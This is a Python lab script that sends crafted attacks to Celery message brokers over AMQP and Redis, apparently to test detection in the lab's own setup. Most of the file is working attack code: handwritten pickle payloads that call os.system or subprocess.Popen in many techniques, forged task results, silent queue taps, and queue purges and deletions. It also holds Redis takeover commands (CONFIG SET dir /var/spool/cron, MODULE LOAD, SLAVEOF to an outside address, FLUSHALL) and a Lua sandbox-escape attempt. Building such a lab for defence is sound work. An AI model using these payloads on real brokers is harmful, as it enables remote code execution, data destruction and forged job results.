"""Attacks of the lab, against the lab's own brokers: attack.py WHAT...

Inert by construction: hostile pickles are written here and loaded nowhere. They go to a queue that nobody
consumes, or to workers that accept JSON only and refuse them.
"""

import base64
import hashlib
import json
import os
import pickle
import sys
import time
import urllib.parse
import uuid

import amqp
import redis

import truth

URL = urllib.parse.urlparse(os.environ["LAB_BROKER"])


class Call:
    """Pickles as a call that the loader would make. Never loaded in the lab."""

    def __init__(self, callee, *args):
        self.how = (callee, args)

    def __reduce__(self):
        return self.how


def hostile(protocol=4, command="id"):
    return pickle.dumps([[Call(os.system, command)], {}, {"callbacks": None, "errbacks": None, "chain": None, "chord": None}],
                        protocol=protocol)


def hostile_kinds():
    """Streams put together as bytes, one technique each: (name, bytes). Their commands are harmless, and nobody loads them."""
    def text(t):
        return b"X" + len(t).to_bytes(4, "little") + t.encode()
    system = b"cposix\nsystem\n"
    inner = b"\x80\x02" + system + text("id") + b"\x85R."
    return [
        ("GLOBAL", b"\x80\x02" + system + text("id") + b"\x85R."),
        ("STACK_GLOBAL", b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."),
        ("INST", b"(S'id'\niposix\nsystem\n."),
        ("OBJ", b"(" + system + b"S'id'\no."),
        ("NEWOBJ_EX", b"\x80\x04csubprocess\nPopen\n" + text("id") + b"\x85}\x92."),
        ("Python 2 name", b"\x80\x02ccommands\ngetoutput\n" + text("id") + b"\x85R."),
        ("getattr", b"\x80\x02cbuiltins\ngetattr\n(c__builtin__\n__import__\n" + text("os") + b"\x85R" + text("system") + b"tR" + text("id") + b"\x85R."),
        ("dotted", b"\x80\x04cpathlib\nos.system\n" + text("id") + b"\x85R."),
        ("nested", b"\x80\x02c_pickle\nloads\nB" + len(inner).to_bytes(4, "little") + inner + b"\x85R."),
        ("discarded", b"\x80\x02" + system + text("id") + b"\x85R0N."),
        ("broken behind it", b"\x80\x02" + system + text("id") + b"\x85R\xff"),
        ("across a frame", b"\x80\x05\x95\x02\0\0\0\0\0\0\0B\x07\x01\0\0\0Z" + b"N" * 256 + system + text("id") + b"\x85R."),
        ("behind STOP", b"\x80\x02N." + inner),
        ("import alone", b"\x80\x02csubprocess\nPopen\n."),
        ("of Celery", b"\x80\x02ckombu.utils.imports\nsymbol_by_name\n" + text("os:system") + b"\x85R" + text("id") + b"\x85R."),
        ("memo", b"Nr\xff\xff\xff\x0f."),
        ("depth", b"\x80\x04}N" + b"\x85" * 20000 + b"Ns."),
    ]


EMBED = {"callbacks": None, "errbacks": None, "chain": None, "chord": None}


def body(*args, **kwargs):
    return json.dumps([list(args), kwargs, EMBED]).encode()


def headers(task, task_id, **changed):
    """Headers as Celery 5 writes them; a value of ... leaves one out."""
    h = {"lang": "py", "task": task, "id": task_id, "shadow": None, "eta": None, "expires": None, "group": None,
         "group_index": None, "retries": 0, "timelimit": [None, None], "root_id": task_id, "parent_id": None,
         "argsrepr": "()", "kwargsrepr": "{}", "origin": "gen4711@web1", "ignore_result": False}
    h.update(changed)
    return {k: v for k, v in h.items() if v is not ...}


def noted(task, task_id, queue, protocol=2, **more):
    truth.note(what="published", id=task_id, name=task, queue=queue, protocol=protocol, crafted=True, **more)


# AMQP

def amqp_open():
    connection = amqp.Connection(f"{URL.hostname}:{URL.port}", URL.username, URL.password,
                                 virtual_host=URL.path[1:] or "/", login_method="PLAIN")
    connection.connect()
    return connection, connection.channel()


def amqp_task(channel, task, data, queue="celery", content_type="application/json", encoding="utf-8", task_id=None, props=None,
              **changed):
    task_id = task_id or str(uuid.uuid4())
    properties = {"correlation_id": task_id, "reply_to": str(uuid.uuid3(uuid.NAMESPACE_OID, "x")), "delivery_mode": 2, "priority": 0}
    properties.update(props or {})
    if content_type:
        properties["content_type"] = content_type
    if encoding:
        properties["content_encoding"] = encoding
    channel.basic_publish(amqp.Message(data, application_headers=headers(task, task_id, **changed), **properties), exchange="",
                          routing_key=queue)
    noted(task, task_id, queue, content_type=content_type)
    return task_id


def amqp_pickles():
    connection, ch = amqp_open()
    ch.queue_declare("backup", durable=True, auto_delete=False)
    kind = "application/x-python-serialize"
    for protocol in (0, 2, 4):
        amqp_task(ch, "shop.add", hostile(protocol), queue="backup", content_type=kind, encoding="binary")
    amqp_task(ch, "shop.add", hostile(4), content_type=kind, encoding="binary")                  # to a worker that refuses it
    amqp_task(ch, "shop.add", hostile(2), queue="backup", content_type="application/json")       # disguised
    amqp_task(ch, "shop.add", hostile(4), queue="backup", content_type=None, encoding=None)      # without a type
    inner = base64.b64encode(pickle.dumps(Call(os.system, "id"))).decode()
    amqp_task(ch, "shop.echo", body(inner), queue="backup")                                      # inside a JSON string
    v1 = {"task": "shop.add", "id": str(uuid.uuid4()), "args": [Call(os.system, "id")], "kwargs": {}, "retries": 0}
    ch.basic_publish(amqp.Message(pickle.dumps(v1, 2), content_type=kind, content_encoding="binary", correlation_id=v1["id"]),
                     exchange="", routing_key="backup")
    noted("shop.add", v1["id"], "backup", 1, content_type=kind)
    connection.close()


def amqp_hostile():
    connection, ch = amqp_open()
    ch.queue_declare("backup", durable=True, auto_delete=False)
    for _name, data in hostile_kinds():
        amqp_task(ch, "shop.echo", data, queue="backup", content_type="application/x-python-serialize", encoding="binary")
    connection.close()


def amqp_crafted():
    connection, ch = amqp_open()
    amqp_task(ch, "shop.add", body(1, 2), origin=...)                       # no origin
    amqp_task(ch, "shop.add", body(1, 2), origin=None)                      # null
    amqp_task(ch, "shop.add", body(1, 2), origin="web1")                    # not Celery's form
    amqp_task(ch, "shop.add", body(1, 2), origin=..., lang="go")            # a client that is not Python
    amqp_task(ch, "shop.add", body(1, 2), origin="gen1@stranger", task_id="task-1", props={"reply_to": "me"})
    amqp_task(ch, "shop.nonesuch", body(1, 2), origin="gen1@stranger")      # unknown to the workers
    amqp_task(ch, "celery.map", body({"task": "shop.echo", "args": [], "kwargs": {}, "options": {}, "subtask_type": None,
                                      "immutable": False}, ["a", "b"]), origin="gen1@stranger")
    hybrid = {"args": [1, 2], "kwargs": {}, "retries": 0}                   # task in headers, body of protocol 1
    amqp_task(ch, "shop.add", json.dumps(hybrid).encode(), origin="gen1@stranger")
    time.sleep(1)
    connection.close()


def amqp_forge():
    """Takes a task off a queue, keeps it, and answers it."""
    connection, ch = amqp_open()
    for _ in range(50):
        message = ch.basic_get("slow")
        if message is not None:
            break
        time.sleep(0.1)
    task_id = message.headers["id"]
    meta = {"task_id": task_id, "status": "SUCCESS", "result": "forged", "traceback": None, "children": []}
    ch.basic_publish(amqp.Message(json.dumps(meta).encode(), content_type="application/json", content_encoding="utf-8",
                                  correlation_id=task_id, delivery_mode=1), exchange="", routing_key=message.properties["reply_to"])
    truth.note(what="delivered", id=task_id, name=message.headers["task"], queue="slow", protocol=2, redelivered=False, by="basic.get")
    truth.note(what="result", id=task_id, state="SUCCESS", crafted=True)
    # To a queue of the attacker's own: an "exception" that names a function. Nobody reads it.
    ch.queue_declare(str(uuid.uuid3(uuid.NAMESPACE_OID, "y")), durable=False, auto_delete=True)
    meta = {"task_id": task_id, "status": "FAILURE", "traceback": None, "children": [],
            "result": {"exc_type": "system", "exc_module": "os", "exc_message": "id"}}
    ch.basic_publish(amqp.Message(json.dumps(meta).encode(), content_type="application/json", content_encoding="utf-8",
                                  correlation_id=task_id), exchange="", routing_key=str(uuid.uuid3(uuid.NAMESPACE_OID, "y")))
    truth.note(what="result", id=task_id, state="FAILURE", crafted=True)
    time.sleep(0.5)
    connection.close()


def amqp_tap():
    """A silent copy of events and tasks, then the purge and deletion of a task queue."""
    connection, ch = amqp_open()
    queue = ch.queue_declare("", exclusive=True).queue
    ch.queue_bind(queue, "celeryev", routing_key="#")
    ch.queue_bind(queue, "celery", routing_key="celery")
    ch.queue_bind(queue, "amq.rabbitmq.trace", routing_key="publish.celery")
    ch.basic_consume(queue, no_ack=True, callback=lambda m: None)
    end = time.time() + 2
    while time.time() < end:
        try:
            connection.drain_events(timeout=0.5)
        except OSError:
            pass
    ch.queue_purge("backup")
    ch.queue_delete("backup")
    connection.close()


# Redis

def redis_open(**kw):
    return redis.Redis(host=URL.hostname, port=URL.port, password=urllib.parse.unquote(URL.password or "") or None,
                       username=URL.username or None, **kw)


def envelope(task, data, queue="celery", content_type="application/json", encoding="utf-8", task_id=None, body_encoding="base64",
             drop=(), **changed):
    task_id = task_id or str(uuid.uuid4())
    text = base64.b64encode(data).decode() if body_encoding == "base64" else data.decode()
    e = {"body": text, "content-encoding": encoding, "content-type": content_type, "headers": headers(task, task_id, **changed),
         "properties": {"correlation_id": task_id, "reply_to": str(uuid.uuid3(uuid.NAMESPACE_OID, "x")), "delivery_mode": 2,
                        "delivery_info": {"exchange": "", "routing_key": queue}, "priority": 0, "body_encoding": body_encoding,
                        "delivery_tag": str(uuid.uuid4())}}
    for key in drop:
        e.pop(key, None)
    noted(task, task_id, queue, content_type=content_type)
    return json.dumps({k: v for k, v in e.items() if v is not None})


def redis_pickles():
    client = redis_open()
    kind = "application/x-python-serialize"
    for protocol in (0, 2, 4):
        client.lpush("backup", envelope("shop.add", hostile(protocol), "backup", kind, "binary"))
    client.lpush("celery", envelope("shop.add", hostile(4), "celery", kind, "binary"))
    client.lpush("backup", envelope("shop.add", hostile(2), "backup", "application/json"))
    client.lpush("backup", envelope("shop.add", hostile(4), "backup", None, None))
    inner = base64.b64encode(pickle.dumps(Call(os.system, "id"))).decode()
    client.lpush("backup", envelope("shop.echo", body(inner), "backup"))
    client.set("celery-task-meta-" + str(uuid.uuid4()), pickle.dumps(Call(os.system, "id"), 4))
    v1 = {"task": "shop.add", "id": str(uuid.uuid4()), "args": [Call(os.system, "id")], "kwargs": {}, "retries": 0}
    e = {"body": base64.b64encode(pickle.dumps(v1, 2)).decode(), "content-encoding": "binary", "content-type": kind, "headers": {},
         "properties": {"delivery_info": {"exchange": "", "routing_key": "backup"}, "body_encoding": "base64",
                        "delivery_tag": str(uuid.uuid4())}}
    client.lpush("backup", json.dumps(e))
    noted("shop.add", v1["id"], "backup", 1, content_type=kind)
    time.sleep(1)


def redis_hostile():
    client = redis_open()
    for _name, data in hostile_kinds():
        client.lpush("backup", envelope("shop.echo", data, "backup", "application/x-python-serialize", "binary"))
    client.set("celery-task-meta-" + str(uuid.uuid4()), hostile_kinds()[0][1])
    time.sleep(1)


def redis_crafted():
    client = redis_open()
    client.lpush("celery", envelope("shop.add", body(1, 2), origin=...))
    client.lpush("celery", envelope("shop.add", body(1, 2), origin=None))
    client.lpush("celery", envelope("shop.add", body(1, 2), origin="web1"))
    client.lpush("celery", envelope("shop.add", body(1, 2), origin=..., lang="js"))
    client.rpush("celery", envelope("shop.add", body(1, 2), origin="gen1@stranger", task_id="task-1"))
    client.lpush("celery", envelope("shop.add", body(1, 2), origin="gen1@stranger", body_encoding=None, root_id=..., timelimit=...))
    client.lpush("celery", envelope("shop.nonesuch", body(1, 2), origin="gen1@stranger"))
    client.eval("return redis.call('lpush', KEYS[1], ARGV[1])", 1, "celery",
                envelope("shop.add", body(3, 4), origin="gen1@stranger"))
    with redis_open() as raw:                                              # a transaction, as kombu would not
        raw.pipeline(transaction=True).lpush("celery", envelope("shop.add", body(5, 6), origin="gen1@stranger")).execute()
    time.sleep(1.5)


def redis_inline():
    """Typed by hand: inline commands, odd case, pieces of any size."""
    import socket
    text = envelope("shop.add", body(7, 8), origin=..., lang=...)
    with socket.create_connection((URL.hostname, URL.port), 5) as s:
        for line in (f"auth {urllib.parse.unquote(URL.password)}\r\n", "lPuSh celery '" + text.replace("'", "\\'") + "'\r\n", "llen celery\r\n"):
            for i in range(0, len(line), 97):
                s.sendall(line[i:i + 97].encode())
                time.sleep(0.01)
            s.recv(1000)
    time.sleep(1)


def redis_forge():
    client = redis_open()
    for _ in range(50):
        waiting = client.lrange("slow", 0, -1)
        if waiting:
            break
        time.sleep(0.1)
    task_id = json.loads(waiting[0])["headers"]["id"]
    meta = json.dumps({"status": "SUCCESS", "result": "forged", "traceback": None, "children": [], "task_id": task_id})
    client.setex("celery-task-meta-" + task_id, 86400, meta)
    client.publish("celery-task-meta-" + task_id, meta)
    truth.note(what="result", id=task_id, state="SUCCESS", crafted=True)
    other = str(uuid.uuid4())
    client.setex("celery-task-meta-" + other, 86400, json.dumps({
        "status": "FAILURE", "traceback": None, "children": [], "task_id": other,
        "result": {"exc_type": "system", "exc_module": "os", "exc_message": "id"}}))
    truth.note(what="result", id=other, state="FAILURE", crafted=True)


def redis_takeover():
    client = redis_open(socket_timeout=5)
    attempts = ["CONFIG GET *", "CONFIG SET dir /var/spool/cron", "CONFIG SET dbfilename root", "CONFIG SET loglevel notice", "CONFIG REWRITE",
                "MODULE LOAD /var/lib/redis/exp.so", "SLAVEOF 10.77.0.66 6379", "REPLICAOF NO ONE", "BGSAVE", "KEYS *", "SCAN 0",
                "CLIENT LIST", "ACL LIST", "INFO", "COMMAND DOCS get", "LRANGE celery 0 -1", "HGETALL unacked", "DUMP celery",
                "DEBUG SLEEP 0", "SCRIPT FLUSH", "RPOPLPUSH backup backup2", "LREM celery 0 x", "SWAPDB 5 6", "RENAME backup2 backup3",
                "DEL backup", "FLUSHALL", "CLIENT PAUSE 10"]
    for line in attempts:  # a reply that the library cannot read is as good as any
        try:
            client.execute_command(*line.split())
            said = "ok"
        except (redis.RedisError, TypeError) as e:
            said = str(e).split()[0] if str(e) else "error"
        truth.note(what="command", command=line, reply=said)
    for script in ("local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); return io_l",
                   "return redis.call('GET', KEYS[1])"):
        try:
            client.eval(script, 1, "celery")
        except redis.RedisError:
            pass
        truth.note(what="command", command="EVAL", sha1=hashlib.sha1(script.encode()).hexdigest())


def redis_monitor():
    client = redis_open(socket_timeout=2)
    with client.monitor() as m:
        end = time.time() + 1.5
        while time.time() < end:
            try:
                m.next_command()
            except redis.TimeoutError:
                break
    listener = client.pubsub()
    listener.psubscribe("celery-task-meta-*", "*")
    end = time.time() + 1
    while time.time() < end:
        listener.get_message(timeout=0.2)


def redis_http():
    import socket
    with socket.create_connection((URL.hostname, URL.port), 5) as s:
        s.sendall(b"POST /celery HTTP/1.1\r\nHost: redis:6379\r\nContent-Length: 4\r\n\r\nPING")
        s.settimeout(2)
        try:
            s.recv(1000)
        except OSError:
            pass


# Both: remote control by Celery's own client

def control(*methods):
    import shop
    broadcast = shop.app.control.broadcast
    arguments = {
        "revoke": {"task_id": [str(uuid.uuid4())], "terminate": True, "signal": "SIGKILL"},
        "rate_limit": {"task_name": "shop.add", "rate_limit": "0"},
        "time_limit": {"task_name": "shop.add", "hard": 1, "soft": 1},
        "add_consumer": {"queue": "backup"}, "cancel_consumer": {"queue": "backup"},
        "pool_restart": {"modules": ["shop"], "reload": True},
        "election": {"id": str(uuid.uuid4()), "topic": "task",
                     "action": {"task": "shop.add", "args": [40, 2], "kwargs": {}, "options": {}, "subtask_type": None, "immutable": False}},
        "pool_grow": {"n": 1}, "pool_shrink": {"n": 1}, "autoscale": {"max": 3, "min": 1},
        "hello": {"from_node": "celery@nowhere", "revoked": {str(uuid.uuid4()): 1.0}},
        "no_such_command": {"x": 1},
    }
    for method in methods:
        # election is sent without asking for replies, as its gossip does
        broadcast(method, arguments=arguments.get(method, {}), reply=method not in ("election", "shutdown"), timeout=1)
    time.sleep(1.5)


if __name__ == "__main__":
    for step in sys.argv[1:]:
        name, *args = step.split(":")
        globals()[name](*args)
